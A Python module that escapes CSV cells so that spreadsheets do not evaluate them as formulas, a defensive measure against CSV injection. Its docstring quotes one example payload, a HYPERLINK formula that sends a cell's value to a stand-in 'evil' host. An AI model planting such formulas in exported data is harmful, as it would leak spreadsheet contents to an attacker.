"""CSV for spreadsheets: every CSV the platform writes goes through `csv_text`, so no cell can run as a
formula when a supervisor opens the file in Excel or WPS.

A unit named `=HYPERLINK("http://evil/?"&A1,"Open")` would otherwise reach a supervisor's spreadsheet as
a live formula (CSV injection). As OWASP advises, a text cell starting with `=`, `+`, `-`, `@`, a tab or
a carriage return is prefixed with a single quote, which spreadsheets show as text and do not evaluate.

Numbers the platform writes as numbers (`int`, `float`: counters and rates) are left alone, negative
ones included: `str()` of a Python number is only a numeric literal (`-3`, `0.5`, `1e-05`), never a
formula, and quoting it would turn a figure into text the supervisor cannot add up. A number that
arrives as text is a text cell, and quoted like any other.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

#: Excel opens UTF-8 CSV with Chinese unit names correctly only when it starts with a byte order mark.
UTF8_BOM = "\ufeff"
#: A text cell starting with one of these is read as a formula (or, tab and CR, shifts into one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would evaluate gets a leading `'`; numbers, empty
    cells and booleans stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(fields: list[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV with a byte order mark, a header and the rows (keys not in `fields` ignored), every cell safe."""
    out = io.StringIO()
    out.write(UTF8_BOM)
    writer = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
    writer.writerow({name: safe_cell(name) for name in fields})
    for row in rows:
        writer.writerow({name: safe_cell(value) for name, value in row.items()})
    return out.getvalue()
